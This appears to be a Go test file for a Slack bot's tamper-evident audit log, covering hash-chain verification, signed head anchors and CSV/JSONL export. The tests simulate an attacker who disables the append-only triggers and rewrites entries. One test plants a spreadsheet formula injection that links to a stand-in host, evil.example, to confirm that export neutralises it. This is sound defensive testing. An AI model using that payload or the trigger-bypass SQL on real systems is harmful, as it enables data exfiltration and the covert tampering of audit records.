package main

import (
	"bufio"
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/slack-go/slack"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/recordsbot/recordsbot/audit"
	"github.com/recordsbot/recordsbot/internal/slackapi/slacktest"
	"github.com/recordsbot/recordsbot/store"
	"github.com/recordsbot/recordsbot/store/storetest"
	"github.com/recordsbot/recordsbot/wire"
)

// auditDB is a store on engine holding a short trail, and a way to
// tamper with it behind the store's back.
func auditDB(t *testing.T, engine string) (url string, exec func(q string)) {
	t.Helper()
	driver, dsn := "sqlite", filepath.Join(t.TempDir(), "recordsbot.db")
	url = "sqlite://" + dsn
	if engine == "postgres" {
		url = storetest.PostgresURL(t)
		driver, dsn = "pgx", url
	}
	st, err := store.Open(t.Context(), url, store.WithAuditKey(mustAuditKey(t)))
	require.NoError(t, err)
	defer st.Close()
	for i, e := range []audit.Entry{
		{Actor: "U0ALICE", ActorRecords: "alice@example.org", Surface: audit.Reminder, Kind: audit.ActionStatus, Target: "A-1", From: "open", To: "complete", Outcome: audit.Requested, RequestID: "r1"},
		{Actor: "U0ALICE", ActorRecords: "alice@example.org", Surface: audit.Reminder, Kind: audit.ActionStatus, Target: "A-1", From: "open", To: "complete", Outcome: audit.Done, RequestID: "r1"},
		{Actor: "U0BOB", Surface: audit.Command, Kind: audit.Follow, Target: "C0GENERAL/finance", To: `Finance, "the" committee`, Outcome: audit.Done, RequestID: "r2"},
		{Actor: "U0BOB", Surface: audit.Home, Kind: audit.Settings, Target: "U0BOB", To: "remind=off", Outcome: audit.Done, RequestID: "r3"},
	} {
		e.Time = time.Date(2026, 11, 2, 10+i, 0, 0, 0, time.UTC)
		_, err := st.AppendAudit(t.Context(), e)
		require.NoError(t, err)
	}
	// The attacker writes the database as the bot's role can, past the
	// triggers that keep it append-only: dropped on SQLite, disabled by
	// the tables' owner on PostgreSQL.
	bypass := []string{"DROP TRIGGER IF EXISTS audit_log_no_update", "DROP TRIGGER IF EXISTS audit_log_no_delete",
		"DROP TRIGGER IF EXISTS audit_head_forward", "DROP TRIGGER IF EXISTS audit_head_no_delete"}
	if engine == "postgres" {
		bypass = []string{"ALTER TABLE audit_log DISABLE TRIGGER USER", "ALTER TABLE audit_head DISABLE TRIGGER USER"}
	}
	return url, func(q string) {
		db, err := sql.Open(driver, dsn)
		require.NoError(t, err)
		defer db.Close()
		for _, b := range bypass {
			_, err = db.ExecContext(t.Context(), b)
			require.NoError(t, err, b)
		}
		if q == rehashAll {
			rehashWithoutKey(t, db, engine)
			return
		}
		_, err = db.ExecContext(t.Context(), q)
		require.NoError(t, err, q)
	}
}

// testAuditKey is AUDIT_KEY in these tests.
const testAuditKey = "cmd-test-audit-key-0123456789abcdef0123"

func mustAuditKey(t *testing.T) audit.Key {
	t.Helper()
	k, err := audit.ParseKey(testAuditKey)
	require.NoError(t, err)
	return k
}

// rehashAll, given to auditDB's exec, re-seals the whole trail as an
// attacker without the key can (plain SHA-256) and moves the head to it.
const rehashAll = "-- rehash"

func rehashWithoutKey(t *testing.T, db *sql.DB, engine string) {
	t.Helper()
	q := func(s string) string {
		if engine != "postgres" {
			return s
		}
		for i := 1; strings.Contains(s, "?"); i++ {
			s = strings.Replace(s, "?", fmt.Sprintf("$%d", i), 1)
		}
		return s
	}
	rows, err := db.QueryContext(t.Context(), "SELECT seq, at, actor, actor_records, surface, kind, target, from_value, to_value, outcome, request_id FROM audit_log ORDER BY seq")
	require.NoError(t, err)
	var entries []audit.Entry
	for rows.Next() {
		var e audit.Entry
		var at int64
		require.NoError(t, rows.Scan(&e.Seq, &at, &e.Actor, &e.ActorRecords, &e.Surface, &e.Kind, &e.Target, &e.From, &e.To, &e.Outcome, &e.RequestID))
		e.Time = time.UnixMilli(at)
		entries = append(entries, e)
	}
	require.NoError(t, rows.Close())
	var head *audit.Entry
	for i := range entries {
		audit.Seal(&entries[i], head, audit.Key{})
		_, err := db.ExecContext(t.Context(), q("UPDATE audit_log SET prev = ?, hash = ? WHERE seq = ?"), entries[i].Prev, entries[i].Hash, entries[i].Seq)
		require.NoError(t, err)
		head = &entries[i]
	}
	_, err = db.ExecContext(t.Context(), q("UPDATE audit_head SET seq = ?, hash = ?"), head.Seq, head.Hash)
	require.NoError(t, err)
}

func runAuditCmd(t *testing.T, url string, args ...string) (stdout string, err error) {
	t.Helper()
	var out, errOut bytes.Buffer
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	err = run(ctx, Config{DatabaseURL: url, AuditKey: testAuditKey, Port: 3000, LogFormat: "text", LogLevel: "info"}, append([]string{"audit"}, args...), strings.NewReader(""), &out, &errOut)
	return out.String(), err
}

func onEachEngine(t *testing.T, test func(t *testing.T, engine string)) {
	for _, engine := range []string{"sqlite", "postgres"} {
		t.Run(engine, func(t *testing.T) {
			t.Parallel()
			test(t, engine)
		})
	}
}

func TestAuditVerifyNamesTheFirstBadEntry(t *testing.T) {
	t.Parallel()
	onEachEngine(t, func(t *testing.T, engine string) {
		for _, tc := range []struct {
			name, sql string
			anchored  bool // caught only against the head published before
			want      string
		}{
			{"edited", "UPDATE audit_log SET actor = 'U0MALLORY' WHERE seq = 2", false, "audit entry 2: altered"},
			{"deleted", "DELETE FROM audit_log WHERE seq = 3", false, "audit entry 4: out of place: entry 3 should come before it"},
			{"last two deleted", "DELETE FROM audit_log WHERE seq >= 3", false, "audit entry 3: removed: the trail ends at entry 2, but its head is entry 4"},
			{"every entry deleted", "DELETE FROM audit_log", false, "audit entry 1: removed: the trail ends at entry 0, but its head is entry 4"},
			{"every entry deleted and the head reset", "DELETE FROM audit_log; UPDATE audit_head SET seq = 0, hash = '', first = 1", true, "audit entry 1: removed: the trail ends at entry 0, but its head was entry 4"},
			{"actor rewritten and the chain re-hashed", "UPDATE audit_log SET actor = 'U0MALLORY' WHERE seq = 2; " + rehashAll, true, "audit entry 4: replaced: the anchored head"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				url, exec := auditDB(t, engine)
				out, err := runAuditCmd(t, url, "verify")
				require.NoError(t, err)
				assert.Contains(t, out, "audit trail intact: 4 entries, 1 to 4, head hmac-sha256:")
				head := out[strings.Index(out, "head ")+len("head ") : strings.Index(out, "\n")]
				anchor := mustAuditKey(t).Sign(audit.Anchor{Seq: 4, Hash: head, At: time.Now()})
				out, err = runAuditCmd(t, url, "verify", "--anchor", anchor)
				require.NoError(t, err)
				assert.Contains(t, out, "it holds the head published for entry 4")

				for q := range strings.SplitSeq(tc.sql, "; ") {
					exec(q)
				}
				_, err = runAuditCmd(t, url, "verify")
				if tc.anchored {
					require.NoError(t, err, "past the chain and its head in the database, only the published head tells")
					_, err = runAuditCmd(t, url, "verify", "--anchor", anchor)
				}
				require.Error(t, err, "verify exits non-zero")
				assert.Contains(t, err.Error(), tc.want)
			})
		}
	})
}

// The help's line for audit says what verify needs, as verify itself
// does when it is missing: a reader who sets only DATABASE_URL is not
// sent to a one-line refusal.
func TestHelpSaysAuditVerifyNeedsTheKey(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	require.NoError(t, run(t.Context(), Config{}, []string{"help"}, nil, &out, &out))
	line := regexp.MustCompile(`(?m)^  audit .*$`).FindString(out.String())
	assert.Contains(t, line, "AUDIT_KEY", "the audit subcommand's line names the key verify needs")
	assert.NotContains(t, line, "DATABASE_URL only")
}

// A DATABASE_URL naming a SQLite file that is not there is not an intact,
// empty trail: verify and export say the file is not there, and create
// none.
func TestAuditNeedsTheDatabaseToBeThere(t *testing.T) {
	t.Parallel()
	missing := filepath.Join(t.TempDir(), "typo.db")
	for _, verb := range []string{"verify", "export"} {
		out, err := runAuditCmd(t, "sqlite://"+missing, verb)
		require.Error(t, err, verb)
		assert.Equal(t, "DATABASE_URL: "+missing+" is not there: nothing to "+verb+" (is it the path serve uses?)", err.Error())
		assert.NotContains(t, out, "intact", verb)
		_, serr := os.Stat(missing)
		assert.ErrorIs(t, serr, os.ErrNotExist, "%s creates no file", verb)
	}
}

func TestAuditVerifyNeedsTheKey(t *testing.T) {
	t.Parallel()
	url, _ := auditDB(t, "sqlite")
	var out bytes.Buffer
	err := run(t.Context(), Config{DatabaseURL: url, Port: 3000, LogFormat: "text", LogLevel: "info"}, []string{"audit", "verify"}, strings.NewReader(""), &out, &out)
	require.Error(t, err)
	assert.Equal(t, "AUDIT_KEY is required to verify the audit trail: the key serve, remind and watch seal it with", err.Error())

	err = run(t.Context(), Config{DatabaseURL: url, AuditKey: "short", Port: 3000, LogFormat: "text", LogLevel: "info"}, []string{"audit", "verify"}, strings.NewReader(""), &out, &out)
	require.Error(t, err)
	assert.Equal(t, "AUDIT_KEY must be a secret of at least 32 characters (openssl rand -hex 32), got 5", err.Error(), "one line")

	other, err := audit.ParseKey("a-key-that-is-not-the-bots-0123456789abcdef")
	require.NoError(t, err)
	_, err = runAuditCmd(t, url, "verify", "--anchor", other.Sign(audit.Anchor{Seq: 9, Hash: "x", At: time.Now()}))
	require.ErrorContains(t, err, "signature is not AUDIT_KEY's", "a forged anchor")
}

func TestTheDailyVerifyPublishesTheSignedHead(t *testing.T) {
	t.Parallel()
	file := filepath.Join(t.TempDir(), "audit-heads")
	var logs bytes.Buffer
	a := &app{set: &settings{auditKey: mustAuditKey(t), auditAnchorFile: file}, log: slog.New(slog.NewTextHandler(&logs, nil))}
	publish := auditVerified(a)
	publish(audit.Head{Entries: 3, First: 1, Seq: 3, Hash: "hmac-sha256:aa"}, nil)
	publish(audit.Head{Entries: 5, First: 1, Seq: 5, Hash: "hmac-sha256:bb"}, nil)
	publish(audit.Head{}, &audit.BrokenError{Seq: 2, Reason: "altered"})
	assert.Contains(t, logs.String(), "audit: head anchored")
	assert.Contains(t, logs.String(), "recordsbot-audit-head seq=5 hash=hmac-sha256:bb")

	url, exec := auditDB(t, "sqlite")
	var out bytes.Buffer
	heads := filepath.Join(t.TempDir(), "heads") // this install's
	cfg := Config{DatabaseURL: url, AuditKey: testAuditKey, AuditAnchorFile: heads, Port: 3000, LogFormat: "text", LogLevel: "info"}
	require.NoError(t, run(t.Context(), cfg, []string{"audit", "verify"}, strings.NewReader(""), &out, &out))
	head := strings.TrimSpace(out.String()[strings.Index(out.String(), "head ")+len("head ") : strings.Index(out.String(), "\n")])
	require.NoError(t, appendLine(heads, mustAuditKey(t).Sign(audit.Anchor{Seq: 4, Hash: head, At: time.Now()})))
	exec("DELETE FROM audit_log WHERE seq >= 3; UPDATE audit_head SET seq = 2, hash = (SELECT hash FROM audit_log WHERE seq = 2)")
	err := run(t.Context(), cfg, []string{"audit", "verify"}, strings.NewReader(""), &out, &out)
	require.ErrorContains(t, err, "but its head was entry 4", "AUDIT_ANCHOR_FILE's latest head is checked without --anchor")

	got, err := readAnchor(mustAuditKey(t), "@"+file)
	require.NoError(t, err)
	assert.Equal(t, int64(5), got.Seq, "the latest head")
	assert.Equal(t, "hmac-sha256:bb", got.Hash)
	b, err := os.ReadFile(file)
	require.NoError(t, err)
	assert.Equal(t, 2, strings.Count(string(b), "\n"), "a broken trail publishes no head")
}

func TestAuditExportParses(t *testing.T) {
	t.Parallel()
	onEachEngine(t, func(t *testing.T, engine string) {
		url, _ := auditDB(t, engine)

		out, err := runAuditCmd(t, url, "export", "--format", "jsonl")
		require.NoError(t, err)
		var got []map[string]any
		sc := bufio.NewScanner(strings.NewReader(out))
		for sc.Scan() {
			var obj map[string]any
			require.NoError(t, json.Unmarshal(sc.Bytes(), &obj), "one JSON object a line: %s", sc.Text())
			got = append(got, obj)
		}
		require.Len(t, got, 4)
		for _, field := range []string{"time", "actor", "kind", "target", "from", "to", "surface", "outcome"} {
			assert.Contains(t, got[0], field)
		}
		assert.Equal(t, "U0ALICE", got[0]["actor"])
		assert.Equal(t, "reminder", got[0]["surface"])
		assert.Equal(t, "requested", got[0]["outcome"])
		assert.Equal(t, "2026-11-02T10:00:00.000Z", got[0]["time"])
		assert.InDelta(t, 4, got[3]["seq"], 0)

		out, err = runAuditCmd(t, url, "export", "--since", "2026-11-02T12:00:00Z", "--format", "csv")
		require.NoError(t, err)
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		require.NoError(t, err, "read by a real CSV reader")
		require.Len(t, rows, 3, "a header and the entries from 12:00")
		assert.Equal(t, exportColumns, rows[0])
		assert.Equal(t, []string{"U0BOB", "follow", "C0GENERAL/finance", `Finance, "the" committee`}, []string{rows[1][2], rows[1][5], rows[1][6], rows[1][8]},
			"a comma and quotes survive")

		_, err = runAuditCmd(t, url, "export", "--format", "xml")
		require.ErrorIs(t, err, errUsage)
		_, err = runAuditCmd(t, url, "export", "--since", "last tuesday")
		require.ErrorIs(t, err, errUsage)
	})
}

// A cell a spreadsheet would run as a formula is exported as text: any
// member can type one as an action's ID, and the refusal is recorded.
func TestAuditExportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	url, _ := auditDB(t, "sqlite")
	st, err := store.Open(t.Context(), url, store.WithAuditKey(mustAuditKey(t)))
	require.NoError(t, err)
	planted := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	_, err = st.AppendAudit(t.Context(), audit.Entry{Actor: "U0MALLORY", Surface: audit.Command, Kind: audit.ActionStatus,
		Target: planted, From: "-1+1", To: "@SUM(1)", Outcome: audit.Refused(audit.ReasonGone), Time: time.Date(2026, 11, 3, 9, 0, 0, 0, time.UTC)})
	require.NoError(t, err)
	require.NoError(t, st.Close())

	out, err := runAuditCmd(t, url, "export", "--format", "csv")
	require.NoError(t, err)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	last := rows[len(rows)-1]
	assert.Equal(t, []string{"'" + planted, "'-1+1", "'@SUM(1)"}, []string{last[6], last[7], last[8]})

	out, err = runAuditCmd(t, url, "export", "--format", "jsonl")
	require.NoError(t, err)
	assert.Contains(t, out, `"target":"=HYPERLINK(`, "JSON is data, not a spreadsheet: kept as written")
}

// With AUDIT_CHANNEL the daily verify posts the signed head there too:
// a message the database's writers cannot rewrite.
func TestTheDailyVerifyPostsTheSignedHeadToAUDIT_CHANNEL(t *testing.T) {
	t.Parallel()
	fake := slacktest.NewServer()
	t.Cleanup(fake.Close)
	var logs bytes.Buffer
	a := &app{set: &settings{auditKey: mustAuditKey(t), auditChannel: "C0GENERAL"}, log: slog.New(slog.NewTextHandler(&logs, nil)),
		Services: &wire.Services{Slack: slack.New(slacktest.DefaultToken, slack.OptionAPIURL(fake.APIURL()))}}
	auditVerified(a)(audit.Head{Entries: 5, First: 1, Seq: 5, Hash: "hmac-sha256:bb"}, nil)
	posts := fake.Calls("chat.postMessage")
	require.Len(t, posts, 1, "logs: %s", logs.String())
	assert.Equal(t, "C0GENERAL", posts[0].Params.Get("channel"))
	text := posts[0].Params.Get("text")
	anchor, err := readAnchor(mustAuditKey(t), strings.Trim(text, "`"))
	require.NoError(t, err, "what was posted is what verify --anchor takes: %s", text)
	assert.Equal(t, int64(5), anchor.Seq)

	fake.SetBotInChannel("C0AUDIT", false) // the bot was not invited
	a.set.auditChannel = "C0AUDIT"
	auditVerified(a)(audit.Head{Entries: 6, First: 1, Seq: 6, Hash: "hmac-sha256:cc"}, nil)
	assert.Contains(t, logs.String(), "audit: head not posted to AUDIT_CHANNEL")
	assert.Contains(t, logs.String(), "not_in_channel")
}
